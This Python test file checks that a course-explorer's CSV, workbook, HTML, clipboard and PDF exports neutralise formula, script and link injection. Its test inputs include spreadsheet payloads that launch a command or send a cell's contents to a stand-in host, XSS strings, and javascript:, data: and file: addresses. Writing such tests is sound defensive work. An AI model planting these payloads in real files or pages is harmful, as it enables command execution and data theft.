"""Whatever a course says, no format lets it compute, run, or load anything."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from db.records import CourseRecord, NoteRecord, SelectionItemRecord
from explorer.services.exports.compared import compared_page, compared_table
from explorer.services.exports.csv_table import clipboard_table, write_csv
from explorer.services.exports.document import Cover, ExportDocument, make_document
from explorer.services.exports.html_page import write_html
from explorer.services.exports.options import ExportOptions
from explorer.services.exports.sheets import workbook_sheets
from explorer.services.exports.texts import harmless
from explorer.services.exports.values import ExportedCourse
from explorer.services.exports.xlsx import write_workbook
from explorer.ui.printing.pages import course_part, first_parts
from resources.vocabulary import vocabulary

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u200b=", "\ufeff@")
SIGNS = frozenset("=+-@\t\r\n＝＋－＠")
ATTACKS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://exemple.fr?x="&A1;"clic")',
    '=WEBSERVICE("http://exemple.fr")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</style><script>alert(1)</script>",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r=1+1",
    'a";"=1+1',
    "]]>&lt;x",
    "_x000D_=1",
)
texts = st.one_of(
    st.sampled_from(ATTACKS),
    st.tuples(st.sampled_from(STARTS), st.text(max_size=30)).map("".join),
    st.tuples(st.text(max_size=8), st.sampled_from(",;\t|\n\r\"'"), st.sampled_from(STARTS)).map("".join),
    st.text(max_size=40),
)


def document(text: str, **facts: Any) -> ExportDocument:
    """Courses that say `text` wherever free words can stand."""
    own: dict[str, Any] = {
        "provider": text,
        "audience": text,
        "skills": (text,),
        "city": text,
        "email": text,
        "url": text,
        "phone": text,
        "price_raw": text,
        "certification_raw": text,
        "language": text,
        **facts,
    }
    courses = [
        ExportedCourse(
            rank,
            CourseRecord(id=rank, source_id=1, import_id=1, sheet=text, row=2, title=f"{text}{rank}", **own),
            (),
            text,
            text,
            None,
        )
        for rank in (1, 2)
    ]
    cover = Cover(text, text, text, date(2026, 11, 25), text)
    return make_document(cover, courses, vocabulary(), ExportOptions())


def csv_of(made: ExportDocument) -> str:
    file = io.BytesIO()
    write_csv(made, file)
    return file.getvalue().decode("utf-8-sig")


def html_of(made: ExportDocument) -> str:
    file = io.BytesIO()
    write_html(made, file)
    return file.getvalue().decode()


class Page(HTMLParser):
    """Every element, every address, and the text of each cell."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.texts: list[str] = []
        self._fresh = True
        self.feed(source)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        self._fresh = tag != "style" and (self._fresh or tag not in ("a", "strong", "br"))

    def handle_data(self, data: str) -> None:
        if self._fresh and data.strip("\n"):
            self.texts.append(data)
            self._fresh = False


def starts_a_formula(text: str) -> bool:
    return text.lstrip(" \u200b\u2060\ufeff\u00a0")[:1] in SIGNS if text else False


@settings(max_examples=60, deadline=None)
@given(texts)
def test_no_cell_of_the_workbook_computes(text: str) -> None:
    file = io.BytesIO()
    write_workbook(file, workbook_sheets(document(text)), title=text)
    for sheet in openpyxl.load_workbook(file):
        for row in sheet:
            for cell in row:
                assert cell.data_type != "f"
                assert not cell.hyperlink or cell.hyperlink.target.startswith(
                    ("http://", "https://", "mailto:")
                )


@settings(max_examples=150, deadline=None)
@given(texts)
def test_no_field_of_a_csv_starts_a_formula_whatever_the_separator(text: str) -> None:
    written = csv_of(document(text))
    for separator in ";,\t|":
        for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
            for field in row:
                assert field[:1] not in SIGNS - {"\r", "\n"}, (separator, field)
                assert separator != ";" or not starts_a_formula(field), field
    for line in written.splitlines():
        for field in line.replace('"', ";").replace("\t", ";").replace(",", ";").split(";"):
            assert field[:1] not in SIGNS, "as a program reads it that does not know our quotes"


@settings(max_examples=100, deadline=None)
@given(texts)
def test_no_cell_that_is_pasted_starts_a_formula(text: str) -> None:
    made = clipboard_table(document(text))
    lines = made.text.split("\n")
    assert len(lines) == 2 + 1 + 1 + 3, "no text makes a line of its own"
    for line in lines:
        assert not any(starts_a_formula(cell) for cell in line.split("\t"))
    page = Page(made.html)
    assert not any(starts_a_formula(each) for each in page.texts)
    assert page.tags <= {"meta", "table", "thead", "tbody", "tr", "th", "td", "a", "br", "p"}


@settings(max_examples=100, deadline=None)
@given(texts)
def test_a_page_runs_and_loads_nothing(text: str) -> None:
    page = Page(html_of(document(text)))
    assert page.tags.isdisjoint({"script", "img", "iframe", "object", "embed", "form", "base", "svg", "link"})
    assert not [name for _tag, name, _value in page.attributes if name.startswith("on") or name == "src"]
    links = [value for _tag, name, value in page.attributes if name == "href"]
    assert all(each.startswith(("http://", "https://", "mailto:", "#f")) for each in links)
    assert not any(starts_a_formula(each) for each in page.texts)


@pytest.mark.parametrize(
    ("address", "is_live"),
    [
        ("https://exemple.fr/a?b=1&c=%C3%A9", True),
        ("HTTP://exemple.fr", True),
        ("javascript:alert(1)", False),
        ("data:text/html,<script>", False),
        ("file:///C:/x.exe", False),
        ("ftp://exemple.fr", False),
        ("https://exemple.fr\nx", False),
        ("\\\\serveur\\partage", False),
    ],
)
def test_only_web_addresses_are_live(address: str, is_live: bool) -> None:
    made = document("Vente", url=address, email=None)
    hrefs = {value for tag, name, value in Page(html_of(made)).attributes if (tag, name) == ("a", "href")}
    assert {each for each in hrefs if not each.startswith("#")} == ({address} if is_live else set())


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Vente", "Vente"),
        ("=1+1", "'=1+1"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("\t=1", "' =1"),
        ("Lyon,-Paris", "Lyon, -Paris"),
        ("a;b", "a;b"),
        ("1 290 € - 21 h", "1 290 € - 21 h"),
        ("a\r\n@b", "a\n @b"),
        ("\u200b=1", "'\u200b=1"),
        ("nul\x00", "nul"),
        ("", ""),
    ],
)
def test_a_text_is_made_harmless_and_stays_readable(text: str, expected: str) -> None:
    assert harmless(text) == expected


def test_a_csv_is_what_french_excel_opens() -> None:
    made = document(
        "Été",
        price_min_eur=None,
        duration_min_hours=3.5,
        duration_max_hours=3.5,
        certification_expiry=date(2027, 9, 5),
        postcode="08200",
    )
    file = io.BytesIO()
    write_csv(made, file)
    assert file.getvalue().startswith(b"\xef\xbb\xbf")
    header, first, *_rest = csv.reader(io.StringIO(csv_of(made), newline=""), delimiter=";")
    found = dict(zip(header, first, strict=True))
    assert (found["Durée"], found["Échéance de la certification"], found["Code postal"]) == (
        "3,5",
        "05/09/2027",
        "08200",
    )


@pytest.mark.parametrize("write", [csv_of, html_of, lambda made: clipboard_table(made).text])
def test_the_search_and_the_sources_are_always_there(write: Callable[[ExportDocument], str]) -> None:
    made = make_document(
        Cover("Titre", None, "Formations sectorielles · Durée : 7 à 70 h", date(2026, 11, 25)),
        document("Vente").courses,
        vocabulary(),
        ExportOptions(columns=frozenset()),
    )
    written = write(made).replace("\u00a0", " ")
    assert "Formations sectorielles · Durée : 7 à 70 h" in written
    assert "Vente : 2" in written


def test_a_page_has_no_column_without_anything_in_it() -> None:
    made = document("Vente")
    first_table = html_of(made).partition("</table>")[0]
    assert 'scope="col">Organisme<' in first_table
    assert "Avis" not in first_table


def test_a_criterion_heads_its_row_of_a_page() -> None:
    assert "<th scope='row'>Organisme</th>" in html_of(document("Vente"))


@settings(max_examples=60, deadline=None)
@given(texts)
def test_a_comparison_that_is_pasted_or_printed_starts_no_formula(text: str) -> None:
    found = document(text).comparison
    assert found is not None
    table = compared_table(found)
    for line in table.text.split("\n"):
        assert not any(starts_a_formula(cell) for cell in line.split("\t"))
    for html in (table.html, compared_page(found)):
        page = Page(html)
        assert page.tags.isdisjoint({"script", "img", "a", "link"})
        assert not any(starts_a_formula(each) for each in page.texts)


def workbook_of(made: ExportDocument) -> str:
    file = io.BytesIO()
    write_workbook(file, workbook_sheets(made), title="x")
    return "\n".join(
        str(cell.value) for sheet in openpyxl.load_workbook(file) for row in sheet for cell in row
    )


def paste_of(made: ExportDocument) -> str:
    table = clipboard_table(made)
    return f"{table.html}{table.text}"


def pages_of(made: ExportDocument) -> str:
    """What the PDF draws."""
    parts = [*first_parts(made), *(course_part(made, place) for place in range(len(made.courses)))]
    return "\n".join(part.html for part in parts)


@pytest.mark.parametrize("private_notes", [False, True])
@pytest.mark.parametrize(
    "write",
    [
        workbook_of,
        pages_of,
        html_of,
        csv_of,
        lambda made: clipboard_table(made).html + clipboard_table(made).text,
    ],
    ids=["workbook", "pdf", "page", "csv", "clipboard"],
)
def test_no_format_tells_private_words_unless_ticked(
    write: Callable[[ExportDocument], str], private_notes: bool
) -> None:
    now = datetime(2026, 11, 25, tzinfo=UTC)
    course, other = document("Vente").courses
    noted = replace(
        course,
        note=NoteRecord(course.facts.id, "SECRET-NOTE", 4, now),
        item=SelectionItemRecord(
            course.facts.id, 1, "retenue", "près de chez elle", now, "SECRET-COMMENTAIRE"
        ),
    )
    made = make_document(
        Cover("Dossier", None, "—", date(2026, 11, 25)),
        (noted, other),
        vocabulary(),
        ExportOptions(private_notes=private_notes),
    )
    written = write(made)
    assert ("SECRET-NOTE" in written) is private_notes
    assert ("SECRET-COMMENTAIRE" in written) is private_notes
    assert "4 / 5" in written.replace("\u00a0", " ")
